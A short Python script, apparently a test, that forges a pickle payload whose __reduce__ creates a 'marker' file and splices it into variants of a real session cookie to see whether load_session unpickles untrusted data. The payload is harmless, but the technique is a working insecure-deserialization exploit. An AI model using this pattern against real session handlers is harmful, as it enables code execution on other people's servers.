"""A forged payload inside the frame of a real cookie: behind a separator, or in place of its parts."""

import base64
import pickle
import re
import sys
from contextlib import suppress
from datetime import datetime
from pathlib import Path

from sessions import Session, load_session, save_session


class Forged:
    """Pickles as a call."""

    def __reduce__(self):
        return open, ("marker", "w")


payload = base64.urlsafe_b64encode(pickle.dumps(Forged())).decode()
real = save_session(Session("ana", [], datetime(2024, 5, 1)))
cookies = [payload, "." + payload, payload + ".", ":" + payload, payload + ":"]
parts = re.split(r"([.:|~])", real)
cookies += ["".join(parts[:n] + [payload] + parts[n + 1 :]) for n in range(0, len(parts), 2)]
for cookie in cookies:
    with suppress(ValueError, PermissionError, pickle.UnpicklingError):
        load_session(cookie)
sys.exit(0 if Path("marker").exists() else 1)
